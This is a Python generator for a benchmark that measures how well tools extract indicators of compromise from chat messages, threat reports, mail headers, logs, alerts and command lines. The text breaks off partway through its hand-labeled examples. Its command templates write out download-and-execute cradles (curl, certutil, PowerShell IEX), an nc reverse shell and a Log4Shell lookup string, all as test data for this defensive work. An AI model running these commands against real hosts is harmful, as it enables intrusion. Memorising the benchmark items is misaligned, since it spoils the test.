#!/usr/bin/env python3
"""Writes corpus.jsonl: labeled documents for the extraction benchmark.

Each document is one of the kinds of text a SOC reads (chat messages, threat-report prose and
IOC lists, e-mail headers, logs, JSON alerts, command lines), filled from pools of indicators,
defanged forms and hard negatives. The labels are what an analyst would want from the text,
written next to each piece as it is generated, from the rules of the task (not from any
extractor's output):

- a URL with a scheme is a `url`, and its host a `domain` (or `ipv4`/`ipv6`) when that host is
  a public domain or an IP; a URL on an internal host (`intranet.corp.local`) is only a `url`;
- an e-mail address is an `email` (lower case) and its domain a `domain`; a Message-ID is not
  an address, but its domain is a domain;
- values are refanged and normalised: lower-case hosts in A-label form, RFC 5952 IPv6, lower-case
  hashes, upper-case CVE identifiers;
- file names (`invoice.pdf`, `README.md`, `payload.zip`), internal names, versions, MAC
  addresses, timestamps, OIDs, hex runs of other lengths, field names (`host.name`) are nothing;
- a hash or CVE inside a URL's path (VirusTotal, NVD links) is labeled too; a brand name that a
  phishing URL carries in its path (`/www.paypal.com/signin`) is not an indicator.

600 documents come from the templates below; HANDWRITTEN adds 41 written and labeled by hand,
with phrasing the templates do not produce (the extractor misses some of them).

    python3 Benchmarks/corpus/extraction/generate.py    # deterministic (seeded)
"""
import ipaddress
import json
import pathlib
import random

R = random.Random(20240605)
OUT = pathlib.Path(__file__).resolve().parent / "corpus.jsonl"

WORDS = ("login secure update account verify mail cloud cdn static api portal office docs share drive "
         "pay bank wallet support help service billing invoice track parcel delivery news media stream "
         "auth sso vpn remote backup sync files data stats metrics alpha nova zenith orbit pixel").split()
TLDS = ["com", "net", "org", "ru", "cn", "info", "xyz", "top", "io", "co.uk", "com.br", "de", "su",
        "online", "site", "club", "biz", "me", "us", "pw", "tk", "ml", "cc", "shop", "live", "app", "in",
        "pl", "fr", "nl", "com.au", "co.jp", "icu", "cyou", "buzz", "work", "link", "store"]
IDN = [("bücher", "de"), ("münchen-bank", "de"), ("ёлка", "рф"), ("пример", "рф"), ("παράδειγμα", "gr"),
       ("faß-service", "de"), ("ünicode-login", "com"), ("例え", "jp"), ("café-paiement", "fr")]
FILES = ["invoice.pdf", "setup.exe", "kernel32.dll", "README.md", "payload.zip", "install.sh", "update.py",
         "Utils.pm", "libcrypto.so", "main.rs", "dropper.js", "Q3_report.docx", "report.xlsm", "stage2.ps1",
         "config.yml", "clip.mov", "Invoice_0423.one", "id_rsa.pub", "Main.java", "rundll32.exe", "svchost.exe",
         "powershell.exe", "cmd.exe", "mshta.exe", "ntdll.dll", "loader.bin", "beacon.dll", "shipping_doc.iso",
         "archive.tar.gz", "notes.txt", "debug.log", "photo.jpg", "scan_0012.img", "macro.docm", "run.bat",
         "svc.vbs", "app.apk", "patch.msi", "readme.html", "index.php", "data.json", "dump.pcap", "Security.evtx"]
INTERNAL = ["dc01.corp.local", "fs02.ad.internal", "printer3.lan", "nas.home", "build7.corp", "db1.localdomain",
            "jenkins.intra", "wsus.mgmt.local", "exch01.contoso.local", "sccm.prod.internal"]
FIELDS = ["host.name", "user.name", "process.name", "file.name", "event.id", "user.email", "rule.id",
          "agent.id", "os.family", "user.group"]
BRANDS = ["www.paypal.com", "login.microsoftonline.com", "appleid.apple.com", "www.chase.com"]


def word():
    return R.choice(WORDS)


def a_label(host):
    return ".".join(l if l.isascii() else "xn--" + l.encode("punycode").decode() for l in host.lower().split("."))


def new_domain(kind=None):
    kind = kind or R.choice(["plain"] * 6 + ["sub", "hyphen", "digits", "idn"])
    if kind == "idn":
        label, tld = R.choice(IDN)
        host = label + "." + tld
        return host, a_label(host)
    tld = R.choice(TLDS)
    if kind == "sub":
        host = f"{word()}.{word()}{word()}.{tld}"
    elif kind == "hyphen":
        host = f"{word()}-{word()}.{tld}"
    elif kind == "digits":
        host = f"{word()}{R.randint(1, 999)}.{tld}"
    else:
        host = f"{word()}{word()}.{tld}"
    return host, host


def defang_host(host, style=None):
    style = style or R.choice(["[.]", "(.)", "{.}", "[dot]", "[.]", "last"])
    if style == "last":
        head, _, tail = host.rpartition(".")
        return head + "[.]" + tail
    return host.replace(".", style)


def written_case(host):
    if not host.isascii():  # upper-casing may change an IDN name (ß becomes SS)
        return host
    return R.choice([host, host, host, host.upper(), host.capitalize()])


def public_ipv4():
    while True:
        a = R.choice([5, 23, 31, 45, 62, 77, 91, 103, 104, 141, 146, 167, 176, 185, 193, 194, 198, 203, 212, 217])
        ip = f"{a}.{R.randint(0, 255)}.{R.randint(0, 255)}.{R.randint(1, 254)}"
        if ipaddress.ip_address(ip).is_global:
            return ip


def private_ipv4():
    return R.choice([f"10.{R.randint(0, 255)}.{R.randint(0, 255)}.{R.randint(1, 254)}",
                     f"192.168.{R.randint(0, 255)}.{R.randint(1, 254)}",
                     f"172.{R.randint(16, 31)}.{R.randint(0, 255)}.{R.randint(1, 254)}"])


def ipv6():
    prefix = R.choice(["2001:db8", "2a00:1450", "2607:f8b0", "2a02:6b8", "fe80:0", "2001:67c"])
    groups = prefix.split(":") + [R.choice(["0", "0", f"{R.randint(0, 0xffff):x}"]) for _ in range(6)]
    address = ipaddress.IPv6Address(":".join(groups))
    style = R.choice(["compressed", "exploded", "upper", "plain"])
    text = {"compressed": address.compressed, "exploded": address.exploded,
            "upper": address.compressed.upper(), "plain": ":".join(groups)}[style]
    return text, address.compressed


def hex_hash(length):
    value = "".join(R.choice("0123456789abcdef") for _ in range(length))
    return (value.upper() if R.random() < 0.2 else value), value


HASH_TYPES = {32: "md5", 40: "sha1", 64: "sha256", 128: "sha512"}


def cve():
    value = f"CVE-{R.randint(2014, 2024)}-{R.randint(1000, 49999)}"
    return (value.lower() if R.random() < 0.15 else value), value


class Doc:
    def __init__(self, kind):
        self.kind, self.parts, self.expected = kind, [], []

    def add(self, text, *labels):
        self.parts.append(text)
        self.expected += labels
        return text

    # Each returns the text written, and records its labels.
    def domain(self, defang=None, host=None):
        host, value = host or new_domain()
        text = defang_host(host) if (defang if defang is not None else R.random() < 0.3) else written_case(host)
        return text, [("domain", value)]

    def url(self, defang=None, host_kind="domain", path=None, scheme=None):
        defang = defang if defang is not None else R.random() < 0.35
        scheme = scheme or R.choice(["http", "https", "https", "https"])
        if host_kind == "ip":
            ip = public_ipv4()
            host_text, host_value, host_label = ip, ip, ("ipv4", ip)
            if defang:
                host_text = ip.replace(".", "[.]") if R.random() < 0.5 else ip.rsplit(".", 1)[0] + "[.]" + ip.rsplit(".", 1)[1]
        elif host_kind == "ipv6":
            text, value = ipv6()
            host_text, host_value, host_label = f"[{text}]", f"[{value}]", ("ipv6", value)
        elif host_kind == "internal":
            host = R.choice(INTERNAL)
            host_text, host_value, host_label = host, host, None
        else:
            host, value = new_domain()
            host_text = defang_host(host) if defang else host
            host_value, host_label = value, ("domain", value)
        port = R.choice(["", "", "", "", f":{R.choice([8080, 443, 8443, 4444, 81])}"])
        path = path if path is not None else R.choice([
            "", "/", f"/{word()}", f"/{word()}/{word()}.php", f"/{word()}/index.html?id={R.randint(1, 99999)}",
            f"/wp-content/uploads/{R.randint(2019, 2024)}/{word()}.zip", f"/{word()}/{R.randint(100, 999)}/gate.php",
            f"/{word()}?user={word()}&token={R.randint(10**7, 10**8)}", f"/{word()}.exe", f"/download/{word()}.bin",
            f"/{word()}/{word()}/#/{word()}"])
        written_scheme = {"http": R.choice(["http", "hxxp", "hXXp"]), "https": R.choice(["https", "hxxps", "hXXps"])}[scheme] if defang else scheme
        separator = R.choice(["://", "://", "[:]//"]) if defang else "://"
        text = f"{written_scheme}{separator}{host_text}{port}{path}"
        labels = [("url", f"{scheme}://{host_value}{port}{path}")]
        if host_label:
            labels.append(host_label)
        return text, labels

    def email(self, defang=None):
        host, value = new_domain(R.choice(["plain", "plain", "sub", "hyphen", "digits"]))
        local = R.choice(["john.doe", "billing", "admin", "it-support", "no-reply", "j.smith+invoice", "hr_team",
                          "security", "ceo", "a.kowalski", "Mary.Jones"])
        defang = defang if defang is not None else R.random() < 0.25
        if defang:
            at = R.choice(["[@]", "[at]", "(at)", "[AT]"])
            text = local + at + defang_host(host, R.choice(["[.]", "[dot]", "(dot)"]))
        else:
            text = f"{local}@{written_case(host)}"
        return text, [("email", f"{local.lower()}@{value}"), ("domain", value)]

    def hash(self, length=None):
        length = length or R.choice([32, 40, 64, 64, 128])
        text, value = hex_hash(length)
        return text, [(HASH_TYPES[length], value)]

    def ip(self, private=False, defang=None):
        ip = private_ipv4() if private else public_ipv4()
        text = ip
        if defang if defang is not None else R.random() < 0.25:
            text = R.choice([ip.replace(".", "[.]"), ip.rsplit(".", 1)[0] + "[.]" + ip.rsplit(".", 1)[1],
                             ip.replace(".", "(.)")])
        return text, [("ipv4", ip)]

    def v6(self):
        text, value = ipv6()
        return text, [("ipv6", value)]

    def cve(self):
        text, value = cve()
        return text, [("cve", value)]

    def put(self, pair):
        text, labels = pair
        return self.add(text, *labels)

    def json(self):
        return {"kind": self.kind, "text": "".join(self.parts),
                "expected": [{"type": t, "value": v} for t, v in dict.fromkeys(self.expected)]}


def negative():
    """A hard negative: something that looks like an indicator and is not."""
    return R.choice([
        lambda: R.choice(FILES),
        lambda: R.choice(INTERNAL),
        lambda: f"version {R.randint(1, 9)}.{R.randint(0, 9)}.{R.randint(0, 9)}.{R.randint(0, 20)}",
        lambda: f"v{R.randint(1, 12)}.{R.randint(0, 9)}.{R.randint(0, 30)}",
        lambda: f"{R.randint(1, 5)}.{R.randint(0, 20)}.{R.randint(0, 99)}",
        lambda: f"{R.randint(256, 999)}.{R.randint(0, 255)}.{R.randint(0, 255)}.{R.randint(0, 255)}",
        lambda: f"0{R.randint(1, 9)}.{R.randint(0, 255)}.{R.randint(0, 255)}.{R.randint(0, 255)}",
        lambda: "1.3.6.1.4.1." + str(R.randint(100, 40000)),
        lambda: ":".join(f"{R.randint(0, 255):02x}" for _ in range(6)),
        lambda: f"{R.randint(0, 23):02d}:{R.randint(0, 59):02d}:{R.randint(0, 59):02d}",
        lambda: "".join(R.choice("0123456789abcdef") for _ in range(R.choice([16, 24, 31, 33, 48, 56, 96]))),
        lambda: f"{R.getrandbits(32):08x}-{R.getrandbits(16):04x}-4{R.getrandbits(12):03x}-a{R.getrandbits(12):03x}-{R.getrandbits(48):012x}",
        lambda: R.choice(FIELDS),
    ])()


def chat():
    d = Doc("chat")
    form = R.randrange(10)
    if form == 0:
        t, l = d.url(defang=False)
        bare = t.split("://", 1)[1]
        d.add(f"{R.choice(['hey', 'fyi', 'heads up'])}, seeing beacons to <{t}|{bare}> from ")
        d.put(d.ip(private=True, defang=False))
        d.add(f" :rotating_light: since {negative()}")
        d.expected += l
    elif form == 1:
        d.add("can someone check `")
        d.put(d.hash())
        d.add(f"`? dropped as {R.choice(FILES)} on {R.choice(INTERNAL)}")
    elif form == 2:
        t, l = d.email(defang=False)
        d.add(f"blocked sender <mailto:{t}|{t}> :white_check_mark: ")
        d.expected += l
    elif form == 3:
        d.add("IOC: ")
        d.put(d.url(defang=True))
        d.add(" (seen in the " + R.choice(["phish", "loader", "campaign"]) + " we saw last week)")
    elif form == 4:
        d.add("is ")
        d.put(d.domain())
        d.add(R.choice(["?", " malicious?", " on the blocklist yet?", "... looks like typosquatting"]))
    elif form == 5:
        d.add(f"patched {R.choice(['log4j', 'exchange', 'confluence', 'citrix'])} for ")
        d.put(d.cve())
        d.add(f", upgraded to {negative()} on {R.choice(INTERNAL)}. see ")
        text, value = cve()
        d.add(f"https://nvd.nist.gov/vuln/detail/{value}", ("url", f"https://nvd.nist.gov/vuln/detail/{value}"),
              ("domain", "nvd.nist.gov"), ("cve", value))
    elif form == 6:
        d.add("VT says 12/70: ")
        _, v = hex_hash(64)
        d.add(f"<https://www.virustotal.com/gui/file/{v}/detection>",
              ("url", f"https://www.virustotal.com/gui/file/{v}/detection"), ("domain", "www.virustotal.com"),
              ("sha256", v))
        d.add(f" it's {R.choice(FILES)}")
    elif form == 7:
        d.add("user clicked ")
        d.put(d.url(defang=R.random() < 0.5))
        d.add(", creds entered :scream: resetting now. source ip ")
        d.put(d.ip())
    elif form == 8:
        d.add("the box talks to ")
        d.put(d.v6())
        d.add(" and ")
        d.put(d.ip(defang=True))
        d.add(f" every {R.randint(2, 60)} s, MAC {negative()}")
    else:
        d.add(f"{R.choice(['ok', 'done', 'thx'])} :+1: nothing to see on {R.choice(INTERNAL)}, just {R.choice(FILES)} "
              f"and {negative()}")
    return d


def report():
    d = Doc("report")
    form = R.randrange(8)
    if form == 0:
        d.add(f"The loader ({R.choice(['SHA-256', 'SHA256', 'sha256'])}: ")
        d.put(d.hash(64))
        d.add(") retrieves its second stage from ")
        d.put(d.url(defang=True, host_kind=R.choice(["domain", "ip"])))
        d.add(f" and writes it to %APPDATA%\\{R.choice(FILES)}. ")
        d.add("It then exploits ")
        d.put(d.cve())
        d.add(".")
    elif form == 1:
        d.add("Indicators of compromise\n\nDomains:\n")
        for _ in range(R.randint(2, 5)):
            d.add("- ")
            d.put(d.domain(defang=R.random() < 0.6))
            d.add("\n")
        d.add("IPs:\n")
        for _ in range(R.randint(1, 4)):
            d.put(d.ip(defang=R.random() < 0.5))
            d.add("\n")
        d.add("Hashes (MD5):\n")
        for _ in range(R.randint(1, 3)):
            d.put(d.hash(32))
            d.add("\n")
    elif form == 2:
        d.add(f"Operators registered ")
        d.put(d.domain(host=new_domain("idn")))
        d.add(", a homoglyph of a bank's domain, and hosted the kit at ")
        d.put(d.url(defang=R.random() < 0.5))
        d.add(f". The kit ({R.choice(FILES)}, {negative()}) collects credentials.")
    elif form == 3:
        t, l = d.url(defang=False)
        d.add(f"See the write-up (")
        d.add(t, *l)
        d.add(R.choice(["). ", ")! ", "), ", "). "]))
        d.add("Sample: ")
        d.put(d.hash(R.choice([40, 128])))
        d.add(f". Not related: {negative()}, {negative()}.")
    elif form == 4:
        host, value = new_domain()
        brand = R.choice(BRANDS)
        real = brand.split(".", 1)[1] if brand.startswith("www.") else brand
        link = f"https://{host}/{brand}/signin?session={R.randint(10**5, 10**6)}"
        d.add("The phishing page ")
        d.add(link, ("url", f"https://{value}/{brand}/signin?session={link.rsplit('=', 1)[1]}"), ("domain", value))
        d.add(f" imitates {real}, whose real site is unaffected.", ("domain", real))
    elif form == 5:
        d.add("| Type | Indicator |\n|---|---|\n| domain | ")
        d.put(d.domain(defang=True))
        d.add(" |\n| ip | ")
        d.put(d.ip(defang=True))
        d.add(" |\n| url | ")
        d.put(d.url(defang=True))
        d.add(" |\n| email | ")
        d.put(d.email(defang=True))
        d.add(" |\n")
    elif form == 6:
        d.add(f"Affected builds: {negative()} and {negative()}; the vendor's advisory for ")
        d.put(d.cve())
        d.add(f" lists {negative()} as fixed. IPv6 C2: ")
        d.put(d.v6())
        d.add(".")
    else:
        d.add("Wikipedia summarises the tool at ")
        page = R.choice(["Sudo_(command)", "Cobalt_Strike", "Mimikatz", "Emotet_(malware)"])
        d.add(f"(https://en.wikipedia.org/wiki/{page})", ("url", f"https://en.wikipedia.org/wiki/{page}"),
              ("domain", "en.wikipedia.org"))
        d.add("; the operators' panel was on ")
        d.put(d.url(defang=False, host_kind="ip"))
        d.add(".")
    return d


def headers():
    d = Doc("email")
    sender_host, sender_value = new_domain(R.choice(["plain", "sub"]))
    relay = f"mail.{sender_host}"
    ip = public_ipv4()
    d.add(f"Received: from {relay} ({relay} [{ip}])\n", ("domain", f"mail.{sender_value}"), ("ipv4", ip))
    d.add(f"\tby mx.google.com with ESMTPS id {R.getrandbits(40):x}.{R.randint(100, 999)}\n",
          ("domain", "mx.google.com"))
    victim = R.choice(["contoso.com", "example.org", "acme-corp.com"])
    d.add(f"\tfor <victim@{victim}>; Mon, {R.randint(1, 28)} Jan 2024 09:14:22 +0000\n",
          ("email", f"victim@{victim}"), ("domain", victim))
    d.add("From: \"Billing Department\" <")
    d.put(d.email(defang=False))
    d.add(">\nReply-To: ")
    d.put(d.email(defang=False))
    bounce = R.randint(100, 999)
    d.add(f"\nReturn-Path: <bounce-{bounce}@{sender_host}>\n", ("email", f"bounce-{bounce}@{sender_value}"),
          ("domain", sender_value))
    d.add(f"Message-ID: <{R.getrandbits(64):x}.{R.randint(1000, 9999)}@{relay}>\n")
    d.add(f"Authentication-Results: mx.google.com; spf=softfail smtp.mailfrom={sender_host}; "
          f"dkim=none header.d={sender_host}\n")
    d.add(f"X-Originating-IP: [")
    d.put(d.ip())
    d.add(f"]\nX-Mailer: {R.choice(['Microsoft Outlook 16.0', 'PHPMailer 6.8.0', 'Foxmail 7.2.25.228'])}\n")
    d.add(f"Subject: Invoice {R.randint(1000, 9999)} overdue\nContent-Type: multipart/mixed; boundary=\"----=_Part_{R.randint(1, 99)}\"\n")
    return d


def log():
    d = Doc("log")
    form = R.randrange(7)
    ts = f"2024-0{R.randint(1, 9)}-{R.randint(10, 28)}T{R.randint(10, 23)}:{R.randint(10, 59)}:{R.randint(10, 59)}Z"
    if form == 0:
        d.add(f"{ts} fw01 action=deny src=")
        d.put(d.ip(private=True, defang=False))
        d.add(f" spt={R.randint(1024, 65535)} dst=")
        d.put(d.ip(defang=False))
        d.add(f" dpt={R.choice([443, 80, 4444, 8080])} proto=tcp mac={':'.join(f'{R.randint(0, 255):02x}' for _ in range(6))}")
    elif form == 1:
        d.add(f"{ts} proxy01 {R.choice(['TCP_MISS/200', 'TCP_DENIED/403'])} GET ")
        d.put(d.url(defang=False))
        d.add(" - user=")
        local = R.choice(["jdoe", "asmith", "svc_backup"])
        d.add(f"{local} ua=\"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
              f"Chrome/{R.randint(110, 125)}.0.0.0 Safari/537.36\"")
    elif form == 2:
        d.add(f"{ts} dns01 query: ")
        d.put(d.domain(defang=False))
        d.add(f" IN A from ")
        d.put(d.ip(private=True, defang=False))
        d.add(f"#53124 response NOERROR ttl=300")
    elif form == 3:
        ip = public_ipv4()
        d.add(f"Jan {R.randint(1, 28)} {R.randint(10, 23)}:{R.randint(10, 59)}:{R.randint(10, 59)} web01 sshd[{R.randint(1000, 9999)}]: "
              f"Failed password for invalid user admin from {ip} port {R.randint(1024, 65535)} ssh2", ("ipv4", ip))
    elif form == 4:
        d.add(f"{ts} EventID=4688 NewProcessName=C:\\Windows\\System32\\{R.choice(['cmd.exe', 'powershell.exe', 'rundll32.exe'])} "
              f"CommandLine=\"rundll32.exe C:\\Users\\Public\\{R.choice(FILES)},DllRegisterServer\" Host={R.choice(INTERNAL)}")
    elif form == 5:
        d.add(f"{ts} dhcpd: DHCPACK on ")
        d.put(d.ip(private=True, defang=False))
        d.add(f" to {':'.join(f'{R.randint(0, 255):02x}' for _ in range(6))} ({R.choice(INTERNAL).split('.')[0]}) via eth0; "
              f"agent version {R.randint(1, 9)}.{R.randint(0, 9)}.{R.randint(0, 9)}.{R.randint(0, 99)}")
    else:
        client = R.choice(["185.0.0.1", "10.0.0.8"])
        d.add(f"{client} - - [12/Mar/2024:{R.randint(10, 23)}:{R.randint(10, 59)}:{R.randint(10, 59)} +0000] "
              f"\"GET /index.php?page=", ("ipv4", client))
        t, l = d.url(defang=False, path="/shell.txt")
        d.add(t, *l)
        d.add(f" HTTP/1.1\" 200 {R.randint(100, 9999)} \"-\" \"curl/{R.randint(7, 8)}.{R.randint(0, 80)}.0\"")
    return d


def alert():
    d = Doc("json")
    form = R.randrange(4)
    if form == 0:
        d.add("{\"@timestamp\": \"2024-03-04T05:06:07.123Z\", \"host\": {\"name\": \"" + R.choice(INTERNAL) +
              "\", \"ip\": [\"")
        d.put(d.ip(private=True, defang=False))
        d.add("\", \"")
        d.put(d.v6())
        d.add("\"], \"mac\": [\"" + "-".join(f"{R.randint(0, 255):02X}" for _ in range(6)) + "\"]}, "
              "\"destination\": {\"domain\": \"")
        d.put(d.domain(defang=False))
        d.add("\", \"ip\": \"")
        d.put(d.ip(defang=False))
        d.add("\"}, \"file\": {\"name\": \"" + R.choice(FILES) + "\", \"hash\": {\"sha256\": \"")
        d.put(d.hash(64))
        d.add("\", \"md5\": \"")
        d.put(d.hash(32))
        d.add("\"}}, \"agent\": {\"version\": \"8." + str(R.randint(0, 12)) + ".1\"}}")
    elif form == 1:
        d.add("{\"host.name\": \"" + R.choice(INTERNAL) + "\", \"user.name\": \"jdoe\", \"process.name\": \"" +
              R.choice(["powershell.exe", "mshta.exe", "wscript.exe"]) + "\", \"url.full\": \"")
        d.put(d.url(defang=False))
        d.add("\", \"rule.id\": \"" + str(R.randint(1000, 9999)) + "\", \"agent_version\": \"7." + str(R.randint(0, 9)) +
              "." + str(R.randint(0, 9)) + "." + str(R.randint(0, 9)) + "\"}")
    elif form == 2:
        t, l = d.url(defang=False)
        escaped = t.replace("/", "\\/")
        d.add("{\"alert\":\"Outbound connection\",\"url\":\"" + escaped + "\",\"sender\":\"")
        d.expected += l
        d.put(d.email(defang=False))
        d.add("\",\"cve\":[\"")
        d.put(d.cve())
        d.add("\"],\"note\":\"see " + R.choice(FILES) + "\"}")
    else:
        d.add("{\"title\": \"Suspicious download\", \"observables\": [{\"type\": \"url\", \"value\": \"")
        d.put(d.url(defang=False, host_kind=R.choice(["domain", "ip", "ipv6", "internal"])))
        d.add("\"}, {\"type\": \"sha1\", \"value\": \"")
        d.put(d.hash(40))
        d.add("\"}, {\"type\": \"filename\", \"value\": \"" + R.choice(FILES) + "\"}]}")
    return d


def command():
    d = Doc("command")
    form = R.randrange(4)
    if form == 0:
        d.add("curl -s -o /tmp/.x ")
        d.put(d.url(defang=False, host_kind=R.choice(["domain", "ip"])))
        d.add(" && chmod +x /tmp/.x && /tmp/.x --c2 ")
        d.put(d.domain(defang=False))
        d.add(f":{R.choice([443, 8443, 53])}")
    elif form == 1:
        d.add("certutil.exe -urlcache -split -f ")
        d.put(d.url(defang=False, host_kind="ip"))
        d.add(f" C:\\Users\\Public\\{R.choice(FILES)}")
    elif form == 2:
        d.add("powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('")
        d.put(d.url(defang=False))
        d.add("')\"")
    else:
        d.add("nc -e /bin/sh ")
        d.put(d.ip(defang=False))
        d.add(f" {R.choice([4444, 1337, 9001])}  # then python3 {R.choice(['update.py', 'exploit.py'])} against "
              f"{R.choice(INTERNAL)}")
    return d


# Written by hand, labeled by hand: phrasing and forms the generators above do not produce.
HANDWRITTEN = [
    ("chat", "anyone know what 185.220.101.4 is? tor exit? also pinging 2a0b:f4c2::2 :thinking_face:",
     [("ipv4", "185.220.101.4"), ("ipv6", "2a0b:f4c2::2")]),
    ("chat", "blocked *evil-cdn.top* and _login-verify.xyz_ at the proxy, ticket INC-2231",
     [("domain", "evil-cdn.top"), ("domain", "login-verify.xyz")]),
    ("chat", "the zip (invoice_2024.zip) contained invoice.pdf.exe, sha1 is 3395856ce81f2b7382dee72602f798b642f14140",
     [("sha1", "3395856ce81f2b7382dee72602f798b642f14140")]),
    ("chat", "I ran `nslookup evil-update.com 8.8.8.8` and got 104.21.55.2, cloudflare again :upside_down_face:",
     [("domain", "evil-update.com"), ("ipv4", "8.8.8.8"), ("ipv4", "104.21.55.2")]),
    ("chat", "can we check if hxxps://docs-shared[.]online/view?id=8812 is still up? user got it from ceo.office@outlook-mail.com",
     [("url", "https://docs-shared.online/view?id=8812"), ("domain", "docs-shared.online"),
      ("email", "ceo.office@outlook-mail.com"), ("domain", "outlook-mail.com")]),
    ("chat", "re: CVE-2023-4966 (Citrix Bleed) - our NetScaler is on 13.1-49.15, so patched",
     [("cve", "CVE-2023-4966")]),
    ("chat", "ok so the macro pulls from http://45.9.148.108/x/ then drops %TEMP%\\svc.exe :(",
     [("url", "http://45.9.148.108/x/"), ("ipv4", "45.9.148.108")]),
    ("chat", "is github.com/evil-org/tools on the allowlist? the script curls raw.githubusercontent.com",
     [("domain", "github.com"), ("domain", "raw.githubusercontent.com")]),
    ("chat", "host WS-0142 (10.20.30.40, 00:50:56:a1:b2:c3) isolated at 14:02:11, reimaging tomorrow",
     [("ipv4", "10.20.30.40")]),
    ("chat", "lol the phish says 'verify at https://micros0ft-login.com/?' with a typo",
     [("url", "https://micros0ft-login.com/"), ("domain", "micros0ft-login.com")]),
    ("chat", "urlscan: https://urlscan.io/result/0b1d2c3e-4f50-6a7b-8c9d-0e1f2a3b4c5d/ - redirects to paypa1-secure.net",
     [("url", "https://urlscan.io/result/0b1d2c3e-4f50-6a7b-8c9d-0e1f2a3b4c5d/"), ("domain", "urlscan.io"),
      ("domain", "paypa1-secure.net")]),
    ("chat", "python3 -m http.server 8000 on the jump box? who did that. logs show GET /exfil.tar.gz from 172.16.4.20",
     [("ipv4", "172.16.4.20")]),
    ("chat", "sample is 5d41402abc4b2a76b9719d911017c592, not the 40-char one. VT link: https://www.virustotal.com/gui/file/5d41402abc4b2a76b9719d911017c592",
     [("md5", "5d41402abc4b2a76b9719d911017c592"),
      ("url", "https://www.virustotal.com/gui/file/5d41402abc4b2a76b9719d911017c592"), ("domain", "www.virustotal.com")]),
    ("chat", "the user typed www.bankofamerica.com.secure-login.info into the browser",
     [("domain", "www.bankofamerica.com.secure-login.info")]),
    ("chat", "upgrade openssl to 3.0.13 and nginx to 1.25.4; node v20.11.1 is fine",
     []),
    ("report", "The implant resolves its C2 through DNS-over-HTTPS (dns.google, cloudflare-dns.com) before contacting "
     "update.windowsdefender-cdn[.]com over port 443.",
     [("domain", "dns.google"), ("domain", "cloudflare-dns.com"), ("domain", "update.windowsdefender-cdn.com")]),
    ("report", "Stage 1 (SHA256 9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08) is a .NET loader "
     "(System.Net.WebClient) that reads its configuration from the registry key "
     "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run.",
     [("sha256", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08")]),
    ("report", "Exfiltration went to an FTP server (ftp://203.0.113.77:2121/uploads/) and to transfer.sh.",
     [("url", "ftp://203.0.113.77:2121/uploads/"), ("ipv4", "203.0.113.77")]),
    ("report", "Table 2. Network indicators\n91.215.85[.]142\tC2\n91.215.85[.]143\tC2 (backup)\n"
     "mail-relay[.]ru\tSMTP relay\n",
     [("ipv4", "91.215.85.142"), ("ipv4", "91.215.85.143"), ("domain", "mail-relay.ru")]),
    ("report", "The Java dropper (com.example.loader.Main in Main.java) unpacks libnative.so and calls "
     "System.loadLibrary; nothing is written to /etc/hosts.",
     []),
    ("report", "CISA added CVE-2024-3400, CVE-2024-21887 and CVE-2023-46805 to the KEV catalog; the "
     "advisory is at https://www.cisa.gov/known-exploited-vulnerabilities-catalog.",
     [("cve", "CVE-2024-3400"), ("cve", "CVE-2024-21887"), ("cve", "CVE-2023-46805"),
      ("url", "https://www.cisa.gov/known-exploited-vulnerabilities-catalog"), ("domain", "www.cisa.gov")]),
    ("report", "Victims were lured to a fake shop at https://xn--80ak6aa92e.com/ (the punycode of a Cyrillic "
     "look-alike of apple.com).",
     [("url", "https://xn--80ak6aa92e.com/"), ("domain", "xn--80ak6aa92e.com"), ("domain", "apple.com")]),
    ("report", "IOCs: 198.51.100[.]23, 198.51.100[.]24; hxxp://198.51.100[.]23/dl/agent.bin; "
     "SHA-1: a94a8fe5ccb19ba61c4c0873d391e987982fbbd3",
     [("ipv4", "198.51.100.23"), ("ipv4", "198.51.100.24"), ("url", "http://198.51.100.23/dl/agent.bin"),
      ("sha1", "a94a8fe5ccb19ba61c4c0873d391e987982fbbd3")]),
    ("report", "The script sets $ip = '10.0.0.1'; the real beacon goes to 2001:db8:85a3::8a2e:370:7334 over QUIC.",
     [("ipv4", "10.0.0.1"), ("ipv6", "2001:db8:85a3::8a2e:370:7334")]),
    ("report", "Persistence: a scheduled task runs powershell.exe -File C:\\ProgramData\\update.ps1 at 03:00:00 daily.",
     []),
    ("report", "The phishing kit's admin panel (panel.php) posts stolen data to api.telegram.org/bot<token>/sendMessage.",
     [("domain", "api.telegram.org")]),
    ("email", "Received: from [192.168.1.23] (unknown [41.58.200.17])\n\tby smtp.mailrelay-eu.com (Postfix) with ESMTPSA\n"
     "From: DHL Express <noreply@dhl-tracking-info.com>\nTo: accounts@acme-corp.com\n"
     "Subject: Shipment 8812-2231 on hold\nX-Originating-IP: 41.58.200.17",
     [("ipv4", "192.168.1.23"), ("ipv4", "41.58.200.17"), ("domain", "smtp.mailrelay-eu.com"),
      ("email", "noreply@dhl-tracking-info.com"), ("domain", "dhl-tracking-info.com"),
      ("email", "accounts@acme-corp.com"), ("domain", "acme-corp.com")]),
    ("email", "Authentication-Results: spf=fail (sender IP is 103.77.192.4) smtp.mailfrom=secure-docu-sign.net; "
     "dkim=none (message not signed) header.d=none;dmarc=fail action=quarantine header.from=docusign.com;",
     [("ipv4", "103.77.192.4"), ("domain", "secure-docu-sign.net"), ("domain", "docusign.com")]),
    ("email", "List-Unsubscribe: <mailto:unsub-77@mail.promo-deals.biz>, <https://promo-deals.biz/u?e=77>",
     [("email", "unsub-77@mail.promo-deals.biz"), ("domain", "mail.promo-deals.biz"),
      ("url", "https://promo-deals.biz/u?e=77"), ("domain", "promo-deals.biz")]),
    ("log", "Mar 12 10:14:22 gw01 kernel: [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 "
     "SRC=80.82.77.139 DST=10.0.0.4 LEN=40 PROTO=TCP SPT=47101 DPT=23",
     [("ipv4", "80.82.77.139"), ("ipv4", "10.0.0.4")]),
    ("log", "2024-03-12 10:14:22,481 WARN [http-nio-8080-exec-3] o.a.c.c.C.[.[.[/].[dispatcherServlet] "
     "jndi:ldap://198.51.100.9:1389/Exploit in User-Agent from 203.0.113.50",
     [("ipv4", "198.51.100.9"), ("ipv4", "203.0.113.50")]),
